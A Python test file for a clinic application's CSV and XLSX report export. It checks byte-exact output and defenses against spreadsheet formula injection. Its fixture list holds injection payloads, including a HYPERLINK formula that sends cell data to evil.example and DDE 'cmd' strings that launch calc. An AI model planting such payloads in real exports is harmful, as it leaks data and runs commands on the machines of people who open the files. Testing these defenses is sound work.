"""The report's CSV, byte for byte: what the fast writer gives equals the plain way of writing
each row (a Decimal per amount, strftime per cell) across midnights, a clock change, equal
starts, currencies of 0, 2 and 3 decimals, cells that need quoting and many chunks."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic.application.reporting.queries import ReportRow
from clinic.domain.reporting import Counted, counted_as
from clinic.domain.shared import Money
from clinic.entrypoints.web import report_files
from clinic.entrypoints.web.report_files import BOM, Columns, csv_chunks

BERLIN = ZoneInfo("Europe/Berlin")  # summer time ends at 03:00 on 25 October 2026
NOW = datetime(2026, 10, 26, 12, 0, tzinfo=UTC)
STATUSES = ("scheduled", "done", "cancelled", "no_show", "unknown")


def columns(russian: bool) -> Columns:
    return Columns(
        headers=["Date", "Time", "Patient", "Doctor", "Room", "Procedures", "Price", "Status",
                 "Counted"],
        statuses={"scheduled": "Scheduled", "done": "Done", "cancelled": "Cancelled",
                  "no_show": "No-show"},
        counted={Counted.REVENUE: "yes", Counted.PLANNED: "planned", Counted.NOT_COUNTED: "no"},
        total="Total counted", sheet_title="Report", russian=russian)


def plainly(rows: list[ReportRow], cols: Columns, currency: str) -> str:
    """The file written the plain way, one formatting call per cell."""
    separator, comma = (";", ",") if cols.russian else (",", ".")
    day_format = "%d.%m.%Y" if cols.russian else "%Y-%m-%d"
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=separator, lineterminator="\r\n")
    writer.writerow(cols.headers)
    count = total = 0
    for row in rows:
        local = row.starts_at.astimezone(BERLIN)
        if row.counted is Counted.REVENUE:
            count, total = count + 1, total + row.price_minor
        writer.writerow([
            local.strftime(day_format), local.strftime("%H:%M"), row.patient_name,
            row.doctor_name, row.room_name, ", ".join(row.procedures),
            str(Money(row.price_minor, currency).to_decimal()).replace(".", comma),
            cols.statuses.get(row.status, row.status), cols.counted[row.counted]])
    writer.writerow([cols.total, "", "", "", "", "", str(
        Money(total, currency).to_decimal()).replace(".", comma), "", count])
    return BOM + buffer.getvalue()


def diary(n: int, currency: str) -> list[ReportRow]:
    """`n` visits by start, from 20:00 on 24 October (Berlin) every 25 minutes, over two
    midnights and the clock change; every third one starts with the one before it."""
    rows = []
    start = datetime(2026, 10, 24, 18, 0, tzinfo=UTC)
    for i in range(n):
        if i % 3:
            start += timedelta(minutes=25)
        status = STATUSES[i % len(STATUSES)]
        rows.append(ReportRow(
            id=uuid.uuid4(), starts_at=start, ends_at=start + timedelta(minutes=30),
            patient_name=["Ivan Petrov", 'Anna "Ann" Lee', "Olga; Smirnova", "Boris,\nJr"][i % 4],
            doctor_name="Dr Who", room_name=f"Room {i % 3}",
            procedures=[[], ["Filling"], ["Cleaning", "X-ray, two"]][i % 3],
            price_minor=(i * 7919) % 1_000_000 if i % 5 else 0, currency=currency,
            status=status, counted=counted_as(status, start, NOW)))
    return rows


@pytest.mark.parametrize("russian", [False, True])
@pytest.mark.parametrize("currency", ["USD", "JPY", "KWD"])
def test_the_csv_is_the_plain_file_byte_for_byte(russian, currency):
    rows = diary(3 * report_files.ROWS_PER_CHUNK + 7, currency)
    cols = columns(russian)
    chunks = list(csv_chunks(iter(rows), cols, BERLIN, currency))
    assert len(chunks) == 1 + 3 + 1  # the header, three full chunks, the rest and the totals
    assert "".join(chunks) == plainly(rows, cols, currency)


def test_amounts_and_names_stay_right_when_the_memos_are_emptied(monkeypatch):
    monkeypatch.setattr(report_files, "MAX_PRICES", 3)
    monkeypatch.setattr(report_files, "MAX_TEXTS", 2)
    rows = diary(50, "USD")
    assert "".join(csv_chunks(rows, columns(True), BERLIN, "USD")) == \
        plainly(rows, columns(True), "USD")


def test_an_empty_period_is_a_header_and_a_zero_total():
    assert "".join(csv_chunks([], columns(False), BERLIN, "USD")) == \
        plainly([], columns(False), "USD")


@given(st.integers(min_value=0, max_value=10**15), st.sampled_from(["USD", "JPY", "KWD"]))
def test_an_amount_is_written_as_its_decimal(minor, currency):
    row = diary(1, currency)[0]
    row = ReportRow(**{**row.__dict__, "price_minor": minor})
    lines = "".join(csv_chunks([row], columns(False), BERLIN, currency)).split("\r\n")
    assert lines[1].split(",")[-3] == str(Money(minor, currency).to_decimal())


# --- user text that a spreadsheet would run -----------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A2,"Click")', "+SUM(1,2)",
            "-2+3*cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "＝1+1", "#N/A"]


def hostile(currency: str = "USD", price_minor: int = 250_00) -> list[ReportRow]:
    """One visit per formula, the formula in every column a person types: the patient, the
    doctor, the room and the procedure; the last one with a negative price."""
    start = datetime(2026, 10, 20, 8, 0, tzinfo=UTC)
    return [ReportRow(id=uuid.uuid4(), starts_at=start, ends_at=start + timedelta(minutes=30),
                      patient_name=text, doctor_name=text, room_name=text, procedures=[text],
                      price_minor=price_minor if n < len(FORMULAS) - 1 else -1250,
                      currency=currency, status="done", counted=Counted.REVENUE)
            for n, text in enumerate(FORMULAS)]


def xlsx_sheet(rows: list[ReportRow], cols: Columns):
    from openpyxl import load_workbook

    target = io.BytesIO()
    report_files.write_xlsx(rows, cols, BERLIN, "USD", target)
    return load_workbook(io.BytesIO(target.getvalue())).active  # a normal load, formulas kept


def test_user_text_that_looks_like_a_formula_is_plain_text_in_the_xlsx():
    sheet = xlsx_sheet(hostile(), columns(False))
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    for n, text in enumerate(FORMULAS, start=2):
        row = sheet[n]
        text = text.replace("\r", "\n")  # XML reads a carriage return as a line break
        assert [row[i].value for i in (2, 3, 4, 5)] == [text] * 4, n  # verbatim, no `'`
        assert all(row[i].data_type == "s" for i in (2, 3, 4, 5)), n


def test_numbers_stay_numbers_in_the_xlsx_even_negative():
    sheet = xlsx_sheet(hostile(), columns(False))
    last = sheet[len(FORMULAS) + 1]
    assert last[6].value == Decimal("-12.50") and last[6].data_type == "n"
    assert sheet[2][6].value == 250 and sheet[2][6].data_type == "n"
    totals = sheet[len(FORMULAS) + 2]
    assert totals[8].value == len(FORMULAS) and totals[8].data_type == "n"


def test_characters_a_worksheet_cannot_hold_are_dropped_not_a_failure():
    row = diary(1, "USD")[0]
    row = ReportRow(**{**row.__dict__, "patient_name": "Ivan\x01 Pet\x1frov\x0b"})
    assert xlsx_sheet([row], columns(False))[2][2].value == "Ivan Petrov"


@pytest.mark.parametrize("russian", [False, True])
def test_user_text_that_looks_like_a_formula_starts_with_an_apostrophe_in_the_csv(russian):
    separator = ";" if russian else ","
    text = "".join(csv_chunks(hostile(), columns(russian), BERLIN, "USD"))
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM)), delimiter=separator))
    for n, formula in enumerate(FORMULAS, start=1):
        expected = formula if formula == "#N/A" else "'" + formula
        assert rows[n][2:6] == [expected] * 4, n
    assert rows[1][2].startswith("'=HYPERLINK(")
    assert rows[len(FORMULAS)][6] == ("-12,50" if russian else "-12.50")  # a number, as is
    assert rows[1][6] == ("250,00" if russian else "250.00")


@pytest.mark.parametrize("russian", [False, True])
def test_neither_separator_cuts_user_text_into_a_cell_that_starts_a_formula(russian):
    """A file written with `;` and opened where the list separator is `,` (or the other way
    round) still has no cell that a spreadsheet would evaluate."""
    row = diary(1, "USD")[0]
    row = ReportRow(**{**row.__dict__, "patient_name": "Ivan,=1+1;=2+2", "doctor_name":
                       'Dr "Who",@SUM(1)', "procedures": ["X-ray;+cmd", "Filling,-1"]})
    text = "".join(csv_chunks([row], columns(russian), BERLIN, "USD")).removeprefix(BOM)
    for separator in (",", ";"):
        for cells in csv.reader(io.StringIO(text), delimiter=separator):
            assert not [c for c in cells if c[:1] in ("=", "+", "@") or c[:2] == "-1"], cells


@pytest.mark.parametrize("text", ["Anna Petrova", "X-ray", "Smith-Jones", "Cleaning, X-ray",
                                  "Olga; Smirnova", "", "'quoted'", "anna@example.com", "5+"])
def test_ordinary_text_is_written_as_typed(text):
    from clinic.entrypoints.spreadsheet_text import csv_text

    assert csv_text(text) == text
